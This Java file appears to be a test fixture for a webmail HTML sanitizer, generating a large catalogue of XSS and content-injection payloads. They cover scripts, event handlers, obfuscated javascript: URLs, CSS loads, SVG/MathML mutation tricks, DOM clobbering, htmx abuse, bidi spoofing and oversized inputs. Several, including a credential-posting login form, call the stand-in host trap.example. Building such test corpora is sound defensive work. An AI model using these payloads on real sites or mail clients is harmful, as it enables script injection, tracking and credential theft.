package org.postern.sample.mail;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * HTML that would run, load, cover or send something, made of families and their variants. What runs calls
 * {@link #RUN}; what loads asks {@link #TRAP} for something.
 */
final class HostileHtml {
    /** A host that nobody has: whoever is asked for it was made to load something. */
    static final String TRAP = "http://trap.example";

    /** Without quotes, so that it fits everywhere. */
    static final String RUN = "top.ran=window.ran=1;alert(1)";

    private final Map<String, String> found = new LinkedHashMap<>();

    private HostileHtml() {}

    /** By a name that tells the family and the variant. */
    static Map<String, String> all() {
        HostileHtml html = new HostileHtml();
        html.scripts();
        html.handlers();
        html.addresses();
        html.loads();
        html.styles();
        html.foreign();
        html.confusions();
        html.forms();
        html.framesAndHeads();
        html.aroundUs();
        html.characters();
        html.masses();
        return html.found;
    }

    private void add(String family, String html) {
        String name = family;
        for (int i = 2; found.containsKey(name); i++) {
            name = family + ' ' + i;
        }
        found.put(name, html);
    }

    private void each(String family, String... html) {
        for (String one : html) {
            add(family, one);
        }
    }

    private void scripts() {
        String script = "<script>" + RUN + "</script>";
        each(
                "script",
                script,
                "<SCRIPT\n>" + RUN + "</SCRIPT\t>",
                "<script/x>" + RUN + "</script>",
                "<script src=" + TRAP + "/s.js></script>",
                "<script src=//trap.example/s.js async defer>",
                "<script type=module>import '" + TRAP + "/m.js'</script>",
                "<script type=text/vbscript>MsgBox 1</script>",
                "<script type=text/hyperscript>on load log 1</script>",
                "<script>" + RUN,
                "<<script>" + RUN + "//<</script>",
                "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
                "<scr\u0000ipt>" + RUN + "</scr\u0000ipt>",
                "<script\u000c>" + RUN + "</script>",
                "<script\u000b>" + RUN + "</script>",
                "<script>\u2028" + RUN + "</script>",
                "\ufeff" + script,
                "<!DOCTYPE html SYSTEM '" + TRAP + "/d.dtd'>" + script,
                "<?xml version='1.0'?><?xml-stylesheet href='" + TRAP + "/x.xsl'?>" + script,
                "<html xmlns='http://www.w3.org/1999/xhtml'><body>" + script + "</body></html>",
                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>" + RUN + "</x:script>",
                "&lt;script&gt;" + RUN + "&lt;/script&gt;",
                "&amp;lt;script&amp;gt;" + RUN,
                "<%script%>" + script);
        for (String place : List.of(
                "a",
                "b",
                "blockquote",
                "caption",
                "center",
                "code",
                "dd",
                "del",
                "div",
                "dl",
                "em",
                "font",
                "h1",
                "li",
                "ol",
                "p",
                "pre",
                "q",
                "span",
                "table",
                "tbody",
                "td",
                "th",
                "tr",
                "tt",
                "ul",
                "col",
                "colgroup",
                "title",
                "textarea",
                "option",
                "select",
                "button",
                "label",
                "xmp",
                "listing",
                "plaintext",
                "noembed",
                "noframes",
                "marquee",
                "details",
                "dialog",
                "article",
                "main",
                "header",
                "nav")) {
            add("script in " + place, "<" + place + ">x" + script + "</" + place + ">" + script);
        }
    }

    private void handlers() {
        for (String name : List.of(
                "onload",
                "onerror",
                "onclick",
                "onmouseover",
                "onfocus",
                "onblur",
                "onanimationstart",
                "onanimationend",
                "ontransitionend",
                "ontransitionrun",
                "onbegin",
                "onend",
                "onrepeat",
                "ontoggle",
                "onbeforetoggle",
                "onpointerenter",
                "onpointerrawupdate",
                "onwheel",
                "onscroll",
                "onscrollend",
                "onscrollsnapchange",
                "onresize",
                "onpageshow",
                "onpagehide",
                "onhashchange",
                "onmessage",
                "onunload",
                "onbeforeunload",
                "onbeforematch",
                "onbeforexrselect",
                "oncontentvisibilityautostatechange",
                "oncuechange",
                "oncanplay",
                "onloadstart",
                "onloadedmetadata",
                "onplay",
                "onsuspend",
                "onstart",
                "onfinish",
                "onsubmit",
                "onformdata",
                "oninvalid",
                "onselect",
                "oncopy",
                "onpaste",
                "ondrag",
                "onfullscreenchange",
                "onsecuritypolicyviolation",
                "onwebkitanimationstart",
                "onslotchange")) {
            add(
                    "handler " + name,
                    "<img src=x " + name + "=" + RUN + "><body " + name + "='" + RUN + "'><p autofocus tabindex=1 "
                            + name.toUpperCase(java.util.Locale.ROOT) + "=\"" + RUN
                            + "\" style='animation:x 1s'>x<a href='https://shop.example/' " + name + "\n=\n" + RUN
                            + ">x</a><table><tr><td/" + name + "=" + RUN + ">x</table>");
        }
        each(
                "handler syntax",
                "<img/src=x/onerror=" + RUN + ">",
                "<img src=x onerror\u0000=" + RUN + ">",
                "<img src=x\u000conerror=" + RUN + ">",
                "<img src='x'onerror=" + RUN + ">",
                "<img src=\"x\"\"onerror=" + RUN + ">",
                "<img src=`x`onerror=" + RUN + ">",
                "<img alt='`' title='` onerror=" + RUN + "' src=x>",
                "<img alt='\"><img src=x onerror=" + RUN + ">'>",
                "<img alt=\"'><img src=x onerror=" + RUN + ">\">",
                "<img alt='--><img src=x onerror=" + RUN + ">'>",
                "<a href='https://shop.example/\" onclick=\"" + RUN + "'>x</a>",
                "<a href=\"https://shop.example/' onclick='" + RUN + "\">x</a>",
                "<a href=https://shop.example/&quot;onclick=" + RUN + ">x</a>",
                "<a href='https://shop.example/&#34; onmouseover=&#34;" + RUN + "'>x</a>",
                "<p align='left\" onclick=\"" + RUN + "'>x</p>",
                "<p dir='ltr\"><img src=x onerror=" + RUN + ">'>x</p>",
                "<td colspan='2\" onclick=\"" + RUN + "'>x</td>",
                "<font color='red\"><script>" + RUN + "</script>'>x</font>",
                "<img src=x onerror=&#116;op.ran&#61;1>",
                "<img \n\n\n/ / / onerror = '" + RUN + "' src=x",
                "<img src=x onerror='" + RUN);
    }

    /** Every way to write a scheme that runs, in every attribute that takes an address. */
    private void addresses() {
        String js = "javascript:" + RUN;
        List<String> addresses = List.of(
                js,
                "JaVaScRiPt:" + RUN,
                " " + js,
                "\t\n" + js,
                "\u0001" + js,
                "\u0000" + js,
                "\u00a0" + js,
                "\u3000" + js,
                "\ufeff" + js,
                "\u200b" + js,
                "java\nscript:" + RUN,
                "java\tscript:" + RUN,
                "java\rscript:" + RUN,
                "java\u0000script:" + RUN,
                "java&#10;script&#58;" + RUN,
                "java&NewLine;script&colon;" + RUN,
                "&#x6a;&#x61vascript:" + RUN,
                "&#0000106avascript:" + RUN,
                "&#1;javascript:" + RUN,
                "java\\u0073cript:" + RUN,
                "java%73cript:" + RUN,
                "javascript%3A" + RUN,
                "javascript\uff1a" + RUN,
                "\uff4aavascript:" + RUN,
                "java\u017fcript:" + RUN,
                "javascript://shop.example/%0a" + RUN,
                "javascript:/*--></title></style></textarea></script><svg onload=" + RUN + ">",
                "view-source:" + js,
                "jar:" + TRAP + "!/x",
                "feed:" + js,
                "vbscript:MsgBox(1)",
                "livescript:" + RUN,
                "mocha:" + RUN,
                "data:text/html,<script>" + RUN + "</script>",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + RUN + "'/>",
                "data:application/xhtml+xml,<x/>",
                "data:,x",
                "blob:" + TRAP + "/1",
                "filesystem:" + TRAP + "/1",
                "file:///etc/passwd",
                "about:blank",
                "chrome://settings",
                "ms-word:ofe|u|" + TRAP + "/x.doc",
                "tel:+1",
                "ftp://trap.example/x",
                "//trap.example/x",
                "/\\trap.example/x",
                "\\\\trap.example\\x",
                "http:trap.example",
                "https:/trap.example",
                "?_task=logout",
                "/?_task=logout",
                "/?_interface=basic",
                "#x",
                "",
                "mailto:x@shop.example?bcc=y@shop.example&body=%0d%0aX",
                "mailto:x\"onclick=" + RUN,
                "https://user:pass@shop.example/",
                "https://\u0430pple.example/",
                "https://shop.example/\u202egpj.exe",
                "https://[::1]/",
                "http://shop.example:99999/",
                "https://" + "a".repeat(9000) + ".example/");
        for (String address : addresses) {
            String value = address.replace("'", "&#39;");
            StringBuilder html = new StringBuilder("<a href='").append(value).append("'>a link</a>");
            for (String attribute : List.of(
                    "img src",
                    "img longdesc",
                    "img lowsrc",
                    "img dynsrc",
                    "area href",
                    "iframe src",
                    "frame src",
                    "embed src",
                    "object data",
                    "object classid",
                    "applet code",
                    "form action",
                    "button formaction",
                    "input src",
                    "link href",
                    "base href",
                    "body background",
                    "table background",
                    "td background",
                    "blockquote cite",
                    "q cite",
                    "del cite",
                    "ins cite",
                    "video src",
                    "video poster",
                    "audio src",
                    "source src",
                    "track src",
                    "html manifest",
                    "svg xlink:href",
                    "use href",
                    "image href",
                    "math href",
                    "math xlink:href",
                    "a xlink:href",
                    "a xml:base",
                    "div data-src",
                    "bgsound src",
                    "layer src",
                    "xml src",
                    "meta content",
                    "menuitem icon",
                    "command icon",
                    "a ping",
                    "portal src")) {
                String[] parts = attribute.split(" ", 2);
                html.append('<')
                        .append(parts[0])
                        .append(' ')
                        .append(parts[1])
                        .append("='")
                        .append(value)
                        .append("'>");
            }
            add("address", html.toString());
        }
    }

    private void loads() {
        String pixel = TRAP + "/pixel.gif";
        each(
                "remote picture",
                "<img src='" + pixel + "' alt='A picture'>",
                "<img src='" + pixel + "?who=alice' width=1 height=1>",
                "<img src='//trap.example/p.gif'>",
                "<img src=' \n" + pixel + "'>",
                "<img src='HTTPS://trap.example/p.gif'>",
                "<img src='http&#58;//trap.example/p.gif'>",
                "<img src='http:\\\\trap.example\\p.gif'>",
                "<img srcset='" + pixel + " 1x, " + pixel + " 2x'>",
                "<img src=x srcset='" + pixel + "' sizes=100vw loading=eager fetchpriority=high crossorigin>",
                "<img src='" + pixel + "' lowsrc='" + pixel + "' dynsrc='" + pixel + "' longdesc='" + pixel + "'>",
                "<img src='" + pixel + "' usemap=#m><map name=m><area href='" + pixel + "' coords=0,0,9,9></map>",
                "<img src='cid:http://trap.example/p.gif'><img src='cid://trap.example/p.gif'>",
                "<img src='cid:../../?_task=logout'><img src='cid:x&_part=source'>",
                "<img src='/?_task=logout'><img src='?_task=part&_part=source'>",
                "<picture><source srcset='" + pixel + "' type=image/webp><img src='" + pixel + "'></picture>",
                "<image src='" + pixel + "'>",
                "<input type=image src='" + pixel + "'>",
                "<video poster='" + pixel + "' src='" + TRAP + "/v' autoplay><source src='" + TRAP + "/v2'></video>",
                "<audio src='" + TRAP + "/a' autoplay preload=auto><track src='" + TRAP + "/t' default></audio>",
                "<body background='" + pixel + "'><table background='" + pixel + "'><td background='" + pixel + "'>x",
                "<bgsound src='" + TRAP + "/b'><embed src='" + TRAP + "/e'><object data='" + TRAP + "/o'>x</object>",
                "<applet codebase='" + TRAP + "' code=x archive='" + TRAP + "/x.jar'></applet>",
                "<object classid='clsid:x' codebase='" + TRAP + "/x.cab'><param name=movie value='" + pixel
                        + "'></object>",
                "<menu><menuitem icon='" + pixel + "'></menu><isindex src='" + pixel + "' type=image>");
        for (String rel : List.of(
                "stylesheet",
                "icon",
                "shortcut icon",
                "preload",
                "modulepreload",
                "prefetch",
                "prerender",
                "dns-prefetch",
                "preconnect",
                "manifest",
                "import",
                "alternate stylesheet",
                "pingback",
                "apple-touch-icon",
                "search",
                "next",
                "expect",
                "compression-dictionary")) {
            add(
                    "link " + rel,
                    "<link rel='" + rel + "' href='" + TRAP + "/" + rel.replace(' ', '-') + "' as=image>"
                            + "<meta http-equiv=Link content='<" + TRAP + "/x>; rel=" + rel + "'>x");
        }
    }

    private void styles() {
        String url = "url(" + TRAP + "/style.gif)";
        List<String> declarations = List.of(
                "background:" + url,
                "background-image:" + url,
                "background:red " + url + " no-repeat",
                "background:u\\72l(" + TRAP + "/e.gif)",
                "background:\\75\\72\\6c(" + TRAP + "/e.gif)",
                "background:url/**/(" + TRAP + "/c.gif)",
                "background:url('//trap.example/q.gif')",
                "background:URL( \"" + "https://trap.example/q.gif\" )",
                "background:image-set('" + TRAP + "/i.gif' 1x)",
                "background:-webkit-image-set(" + url + " 1x)",
                "background:image(" + url + ")",
                "background:cross-fade(" + url + "," + url + ",50%)",
                "background:element(#page)",
                "background:var(--x," + url + ");--x:" + url,
                "--x:" + url + ";background:var(--x)",
                "list-style:" + url,
                "list-style-image:" + url,
                "list-style:square inside " + url,
                "border-image:" + url + " 30 round",
                "cursor:" + url + ",auto",
                "content:" + url,
                "mask:" + url,
                "-webkit-mask-image:" + url,
                "clip-path:" + url,
                "filter:" + url,
                "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='" + TRAP + "/f.gif')",
                "shape-outside:" + url,
                "offset-path:" + url,
                "src:" + url,
                "font-family:x;src:" + url,
                "font:12px " + url,
                "behavior:url(#default#time2)",
                "behavior:" + url,
                "-moz-binding:" + url,
                "width:expression(" + RUN + ")",
                "width:exp/**/ression(" + RUN + ")",
                "width:\\65xpression(" + RUN + ")",
                "xss:expr\\65 ssion(" + RUN + ")",
                "color:red;};@import " + url,
                "color:red}body{display:none}",
                "color:red</style><script>" + RUN + "</script>",
                "color:red\"><script>" + RUN + "</script>",
                "color:red&quot;onclick=&quot;" + RUN,
                "color:red/*\"*/onclick=" + RUN,
                "position:fixed;inset:0;z-index:2147483647;background:#fff",
                "position:absolute;top:0;left:0;width:100vw;height:100vh",
                "position:sticky;top:0",
                "p\\6fsition:fixed;top:0",
                "margin:-9999px;margin-top:-500px",
                "transform:scale(50)",
                "zoom:50",
                "float:left;width:9999px;height:9999px",
                "display:none",
                "opacity:0",
                "visibility:hidden",
                "font-size:0",
                "font-size:9999px",
                "text-indent:-9999px",
                "line-height:0",
                "color:#fff;background:#fff",
                "width:999999999px;height:999999999px",
                "animation:x 1s infinite;transition:all 1s",
                "pointer-events:none",
                "all:unset",
                "direction:rtl;unicode-bidi:bidi-override",
                "writing-mode:vertical-rl",
                "color:" + "(".repeat(2000),
                "color:red;".repeat(5000),
                "font-family:'" + "\\".repeat(3000),
                "color:attr(title)",
                "content:counter(x)",
                "view-transition-name:page;anchor-name:--support;position-anchor:--support",
                "background:\u0000url(" + TRAP + "/n.gif)",
                "background:ur\u0000l(" + TRAP + "/n.gif)",
                "background:\uff55rl(" + TRAP + "/n.gif)");
        for (String style : declarations) {
            add(
                    "style",
                    "<p style=\"" + style.replace("\"", "&quot;") + "\">text<span style='" + style.replace("'", "&#39;")
                            + "'>more</span></p><style>p{" + style + "}</style>");
        }
        each(
                "style sheet",
                "<style>@import " + url + ";@import '" + TRAP + "/i.css' layer(x) supports(display:grid);</style>",
                "<style>@font-face{font-family:x;src:" + url + "}*{font-family:x}</style>",
                "<style>@namespace x " + url + ";@charset 'utf-7';@page{background:" + url + "}</style>",
                "<style>input[value^=a]{background:" + url + "}html:has(#support){display:none}</style>",
                "<style>iframe,#support,#page,.top{display:none!important}body:before{content:" + url + "}</style>",
                "<style>@media print{body{background:" + url + "}}@container(width>1px){p{background:" + url
                        + "}}</style>",
                "<style>@property --x{syntax:'<image>';inherits:true;initial-value:" + url + "}</style>",
                "<style><!-- --><script>" + RUN + "</script>",
                "<style></style\n><img src=x onerror=" + RUN + ">",
                "<style>a{color:red}</stylex><img src=x onerror=" + RUN + ">",
                "<div><style><a title='</style><img src=x onerror=" + RUN + ">'>",
                "<link rel=stylesheet href='data:text/css,*{background:" + url + "}'>",
                "<p class='support alert bad' id=page>x</p>");
    }

    private void foreign() {
        each(
                "svg",
                "<svg onload=" + RUN + "></svg>",
                "<svg/onload=" + RUN + ">",
                "<svg><script>" + RUN + "</script></svg>",
                "<svg><script href='" + TRAP + "/s.js'/></svg>",
                "<svg><script>&#97;lert(1)</script></svg>",
                "<svg><use href='" + TRAP + "/u.svg#x'/><use xlink:href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
                "<svg><foreignObject><body onload=" + RUN + "><iframe src='" + TRAP + "/f'></iframe></foreignObject>",
                "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
                "<svg><a><animate attributeName=href values='javascript:" + RUN + "'/><text y=9>x</text></a></svg>",
                "<svg><a xlink:href='javascript:" + RUN + "'><rect width=99 height=99 /></a></svg>",
                "<svg><set attributeName=onmouseover to='" + RUN + "'/></svg>",
                "<svg><animateTransform onrepeat=" + RUN + "></svg>",
                "<svg><image href='" + TRAP + "/i.gif'/><feImage href='" + TRAP + "/f.gif'/></svg>",
                "<svg><style>@import url(" + TRAP + "/i.css)</style></svg>",
                "<svg><style>*{background:url(" + TRAP + "/b.gif)}</style></svg>",
                "<svg fill='url(" + TRAP + "/p.svg#x)' filter='url(" + TRAP + "/p.svg#y)'><rect/></svg>",
                "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>" + RUN + "</handler></svg>",
                "<svg><desc><![CDATA[</desc><script>" + RUN + "</script>]]></svg>",
                "<svg><title><style><img src=x onerror=" + RUN + "></style></title></svg>",
                "<svg><p><style><a id='</style><img src=x onerror=" + RUN + ">'></p></svg>",
                "<svg></p><style><a id='</style><img src=1 onerror=" + RUN + ">'>",
                "<svg><cursor href='" + TRAP + "/c'/><discard/><mpath href='" + TRAP + "/m'/></svg>",
                "<math><a xlink:href='javascript:" + RUN + "'>x</a></math>",
                "<math href='javascript:" + RUN + "'>x</math>",
                "<math><maction actiontype='statusline#" + TRAP + "' xlink:href='javascript:" + RUN + "'>x</maction>",
                "<math><annotation-xml encoding='text/html'><img src=x onerror=" + RUN + "></annotation-xml></math>",
                "<math><annotation-xml encoding='application/xhtml+xml'><script>" + RUN + "</script></math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + "></style></mglyph></table></mtext>",
                "<math><mi xlink:href='" + TRAP + "'><mglyph src='" + TRAP + "/g.gif'></mi></math>");
    }

    /** What one parser reads in another way than the next. */
    private void confusions() {
        String image = "<img src=x onerror=" + RUN + ">";
        String hidden = "&lt;img src=x onerror=" + RUN + "&gt;";
        each(
                "mutation",
                "<noscript><p title='</noscript>" + image + "'></noscript>",
                "<noscript><style></noscript>" + image + "</style>",
                "<noscript><!--</noscript>" + image + "-->",
                "<template>" + image + "<script>" + RUN + "</script></template>",
                "<template shadowrootmode=open>" + image + "</template>",
                "<div><template><s><template><s>" + image + "</s></template></s></template>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;" + hidden + "'>",
                "<math><mtext><table><mglyph><style><math>" + image + "</style>",
                "<form><math><mtext></form><form><mglyph><style></math>" + image + "</style></form>",
                "<svg><mtext><table><mglyph><svg><mtext><style><path id='</style>" + image + "'>",
                "<table><td><table><tr><select><table>" + image + "</table></select>",
                "<select><template><style><!--</style><a rel='--></style></template></select>" + image + "'>",
                "<select><iframe></select>" + image + "</iframe>",
                "<select><noembed></select><script>" + RUN + "</script></noembed>",
                "<option><style></option></select><b>" + image + "</style></option>",
                "<xmp><p title='</xmp>" + image + "'>",
                "<noembed><p title='</noembed>" + image + "'>",
                "<noframes><p title='</noframes>" + image + "'>",
                "<iframe><p title='</iframe>" + image + "'>",
                "<textarea><p title='</textarea>" + image + "'>",
                "<title><p title='</title>" + image + "'>",
                "<plaintext></plaintext>" + image,
                "<listing>&lt;img src=x onerror=" + RUN + "&gt;</listing>",
                "<p title='&lt;/p&gt;" + hidden + "'>" + hidden,
                "<!-->" + image + "-->",
                "<!--->" + image + "-->",
                "<!--x--!>" + image + "-->",
                "<!--<!-->" + image + "<!---->",
                "<!-- --\n>" + image + "-->",
                "<!--[if gte IE 4]><script>" + RUN + "</script><![endif]-->",
                "<![if !mso]>" + image + "<![endif]>",
                "<![CDATA[" + image + "]]>",
                "<svg><![CDATA[><![CDATA[" + image + "]]></svg>",
                "<?php echo '" + image + "'?>",
                "</ " + image + ">",
                "<//" + image,
                "<! " + image + ">",
                "<a<b>" + image + "</a<b>",
                "<a href='x'" + image + ">",
                "<p <img src=x onerror=" + RUN + "//>",
                "<b><i><u>x</b></i></u>" + image,
                "<table>" + image + "<tr>" + image + "<td>" + image + "</table>",
                "<table><caption><svg><style>" + image + "</style></caption></table>",
                "<a><table><a>" + image + "</a></table></a>",
                "<button><p></button>" + image + "</p>",
                "<h1><h2>" + image + "</h1></h2>",
                "</body></html>" + image,
                "</div></div></pre></article></section></main></body>" + image,
                "<frameset><frame src='javascript:" + RUN + "'></frameset>",
                "<br/><br//><br / onload=" + RUN + ">",
                "<p/onclick=" + RUN + "/>x",
                "<keygen autofocus onfocus=" + RUN + "><isindex prompt=x onfocus=" + RUN + ">",
                "<x onclick=" + RUN + " contenteditable>x</x><x-y is=z onfocus=" + RUN + " tabindex=1>",
                "<p xml:lang=x xmlns:svg='http://www.w3.org/2000/svg'><svg:script>" + RUN + "</svg:script></p>",
                "<html><head><title>x</title></head><frameset onload=" + RUN + "><noframes>" + image,
                "<object><param name=x><embed></object><p>" + image,
                "<ruby><rp>" + image + "<rt></ruby>",
                "<li><ul><li></ol>" + image,
                "\u0000<img \u0000src=x \u0000onerror=" + RUN + "\u0000>");
    }

    private void forms() {
        each(
                "form",
                "<form action='" + TRAP + "/f' method=post><input name=user><input type=password name=pass>"
                        + "<button>Log in</button></form>",
                "<form action='/?_task=logout' method=post><button>Log in</button></form>",
                "<form action='javascript:" + RUN + "'><input type=submit></form>",
                "<button form=act formaction='" + TRAP + "/f'>x</button>",
                "<button formaction='javascript:" + RUN + "' popovertarget=shortcuts>x</button>",
                "<button commandfor=shortcuts command=show-modal>x</button>",
                "<input form=letter name=to value='x@shop.example'><textarea form=letter name=text>x</textarea>",
                "<input autofocus onfocus=" + RUN + "><select autofocus onfocus=" + RUN + "><option>x</select>",
                "<isindex action='javascript:" + RUN + "' type=submit value=x>",
                "<label for=q>x</label><datalist id=q><option value=x></datalist><output for=q>x</output>",
                "<fieldset form=act><legend>x</legend><meter value=1></meter><progress></progress></fieldset>",
                "<dialog open><form method=dialog><button>x</button></form></dialog>",
                "<details open ontoggle=" + RUN + "><summary>x</summary></details>",
                "<p contenteditable autofocus onfocus=" + RUN + ">x</p>",
                "<a accesskey=x href='javascript:" + RUN + "' onclick=" + RUN + ">x</a>");
    }

    private void framesAndHeads() {
        each(
                "frame",
                "<iframe src='" + TRAP + "/frame'></iframe>",
                "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
                "<iframe srcdoc='&lt;script&gt;top.ran=1&lt;/script&gt;' src='javascript:" + RUN + "'></iframe>",
                "<iframe src='/?_task=mail' onload=" + RUN + "></iframe>",
                "<iframe src='about:blank' name=letter></iframe><a target=letter href='javascript:" + RUN + "'>x</a>",
                "<iframe><script>" + RUN + "</script></iframe>",
                "<frame src='" + TRAP + "/frame'><frameset rows=1,*><frame src='" + TRAP + "/frame'></frameset>",
                "<fencedframe config=x></fencedframe><portal src='" + TRAP + "/p'></portal>",
                "<embed src='data:text/html,<script>" + RUN + "</script>'>",
                "<object data='data:text/html,<script>" + RUN + "</script>'></object>",
                "<object type=text/html data='/?_task=mail'></object>");
        for (String equivalent : List.of(
                "refresh",
                "Set-Cookie",
                "Content-Security-Policy",
                "Location",
                "X-Frame-Options",
                "Content-Type",
                "Default-Style",
                "Page-Enter",
                "Link",
                "x-dns-prefetch-control",
                "origin-trial",
                "delegate-ch")) {
            add(
                    "meta " + equivalent,
                    "<html><head><meta http-equiv='" + equivalent + "' content='0; url=" + TRAP + "/meta'>"
                            + "<meta http-equiv=\"" + equivalent + "\" content=\"0;javascript:" + RUN
                            + "\"></head><body><meta http-equiv=" + equivalent + " content=0;//trap.example/>x</body>");
        }
        each(
                "head",
                "<base href='" + TRAP + "/'><a href='x'>x</a><img src=x>",
                "<base target=_top><a href='" + TRAP + "/top'>x</a>",
                "<base href='javascript:/a/-" + RUN + "//'><a href=#>x</a>",
                "<meta charset=utf-7>+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
                "<meta name=referrer content=unsafe-url><a href='https://shop.example/'>x</a>",
                "<meta name=viewport content='width=9999'><meta name=color-scheme content=dark>",
                "<meta name=htmx-config content='{\"allowEval\":true}'>",
                "<title>Webmail · log in again</title><link rel=canonical href='" + TRAP + "'>",
                "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"" + TRAP + "/s\"]}]}</script>",
                "<script type=importmap>{\"imports\":{\"x\":\"" + TRAP + "/s\"}}</script>",
                "<html manifest='" + TRAP + "/m' onload=" + RUN + "><head profile='" + TRAP + "/p'>x");
    }

    /** What means something to the page around it. */
    private void aroundUs() {
        for (String attribute : List.of(
                "hx-get",
                "hx-post",
                "hx-put",
                "hx-delete",
                "hx-patch",
                "hx-target",
                "hx-select",
                "hx-select-oob",
                "hx-swap",
                "hx-swap-oob",
                "hx-trigger",
                "hx-vals",
                "hx-vars",
                "hx-headers",
                "hx-include",
                "hx-ext",
                "hx-boost",
                "hx-push-url",
                "hx-replace-url",
                "hx-history-elt",
                "hx-on",
                "hx-on:click",
                "hx-on::load",
                "hx-on--after-request",
                "hx-ws",
                "hx-sse",
                "hx-confirm",
                "hx-prompt",
                "hx-request",
                "hx-disinherit",
                "hx-params",
                "hx-sync",
                "hx-preserve",
                "hx-encoding",
                "sse-connect",
                "ws-connect",
                "_",
                "x-on:click",
                "v-on:click",
                "ng-click",
                "data-bind")) {
            String value = attribute.matches("hx-(?:get|post|put|delete|patch).*") ? TRAP + "/hx" : "js:" + RUN;
            add(
                    "around " + attribute,
                    "<div " + attribute + "='" + value
                            + "' hx-trigger='load, every 1s'>x</div><a href='https://shop.example/'"
                            + " data-" + attribute + "='" + value + "' hx-trigger=load hx-target='#page'>x</a><p "
                            + attribute
                            + "='/?_task=logout' hx-trigger=load hx-swap=outerHTML hx-select='#page'>x</p>");
        }
        for (String name : List.of(
                "page",
                "main",
                "support",
                "support-left",
                "logout",
                "reader",
                "messages",
                "message",
                "body",
                "folders",
                "act",
                "keys-on",
                "shortcuts",
                "offline",
                "said",
                "letter",
                "documentElement",
                "contentDocument",
                "cookie",
                "location",
                "forms",
                "body",
                "head",
                "getElementById",
                "querySelectorAll",
                "addEventListener",
                "localStorage",
                "htmx",
                "__proto__",
                "constructor",
                "top",
                "parent",
                "frames",
                "scrollHeight")) {
            add(
                    "clobbers " + name,
                    "<div id='" + name + "' name='" + name + "' class='" + name + "'>x</div><a id=" + name + " name="
                            + name + " href='https://shop.example/'>x</a><a id=" + name
                            + " href='https://shop.example/'>y</a><img name=" + name + " id=" + name
                            + " src=x><form name=" + name + "><input name=" + name + "></form><table id=" + name
                            + "><tr id=" + name + "><td headers=" + name + " id=" + name + ">x</table><iframe name="
                            + name + "></iframe>");
        }
        each(
                "around",
                "<a href='https://shop.example/' target=_top rel=opener>x</a><a target=_parent href='" + TRAP
                        + "'>x</a>",
                "<a href='https://shop.example/' target=letter rel='opener external'>x</a>",
                "<a href='https://shop.example/' target='_blank' ping='" + TRAP
                        + "/ping' referrerpolicy=unsafe-url>x</a>",
                "<a href='https://shop.example/' download='x.exe' attributionsrc='" + TRAP + "/a'>x</a>",
                "<p slot=x part=y popover=auto inert hidden draggable=true is=z nonce=x itemscope itemid='" + TRAP
                        + "'>x</p>",
                "<p role=alert aria-live=assertive aria-label='Your session ends' aria-owns=page>x</p>",
                "<p lang=x title='\"><script>" + RUN + "</script>' tabindex=1 accesskey=j>x</p>",
                "<label class='tick' for=all>x</label><time datetime=x>x</time><data value=x>x</data>",
                "<div class='support' id='support'><p>Support session of somebody else</p></div>",
                "${7*7}#{7*7}{{7*7}}<%= 7*7 %>@if(true)$unsafe{x}@endif",
                "<h1>Log in again</h1><center><font size=7 color=red face='x'>Your session is over</font></center>");
    }

    private void characters() {
        each(
                "characters",
                "\u202etxt.exe\u202c <b>\u2066\u202e\u2069</b>",
                "\u202e".repeat(2000) + "x",
                "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
                "z" + "\u0301".repeat(3000),
                "<p>\ud800</p>\udc00",
                "\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0085\ufffe\uffff",
                "\uff1cscript\uff1e" + RUN + "\uff1c/script\uff1e",
                "\u00bcscript\u00be" + RUN + "\u00bc/script\u00be",
                "\u02baonclick=" + RUN + "\u2039script\u203a",
                "&#0;&#x0;&#xd800;&#x110000;&#99999999999;&lt&gt&amp&quot&#60script&#62" + RUN,
                "&lt;script&gt;&#x3c;script&#x3e;&#60;script&#62;&LT;script&GT;" + RUN,
                "\ud83d\ude00".repeat(5000),
                "\u0e49".repeat(5000),
                "\u2028\u2029<p>\u2028onclick=" + RUN + "</p>",
                "\ufdfd".repeat(500),
                "<p dir=rtl>\u05e9\u05dc\u05d5\u05dd</p><bdo dir=rtl>moc.elpmaxe</bdo><bdi>x</bdi>");
    }

    /** What takes long where something is done for each piece with all the others. */
    private void masses() {
        Map<String, String> pieces = new LinkedHashMap<>();
        for (String piece : new ArrayList<>(List.of(
                "<",
                "<a ",
                "<!--",
                "</",
                "&",
                "&#",
                "<div>",
                "<b>",
                "<table><tr><td>",
                "<p style='color:red'>x",
                "'",
                "\u00a0",
                "&nbsp;",
                " ",
                "<b> </b>",
                "<br>",
                "<p>\u00a0",
                "\n",
                "<img src='cid:a'>",
                "<img src=x>",
                "<a href='https://shop.example/'>x",
                "<font color=red>",
                "<svg>",
                "<math><mi>",
                "<select>",
                "<style>",
                "<script>",
                "</p>",
                "<li>",
                "<h1>",
                "]]>",
                "\u0000",
                "https://a.b ",
                "<template>",
                "<noscript>",
                "<title>",
                "<blockquote>",
                "<ul><li>"))) {
            pieces.put(piece, piece);
        }
        pieces.forEach((name, piece) -> add("mass", piece.repeat(LetterReader.MOST_HTML / 2 / piece.length())));
        each(
                "mass",
                "<p " + "a=b ".repeat(50_000) + ">x",
                "<p " + "style='color:red' ".repeat(20_000) + ">x",
                "<p style='" + "color:red;".repeat(40_000) + "'>x",
                "<a href='https://shop.example/" + "%41".repeat(100_000) + "'>x</a>",
                "<" + "a".repeat(200_000) + ">x",
                "<img alt='" + "<".repeat(200_000) + "'>");
    }
}
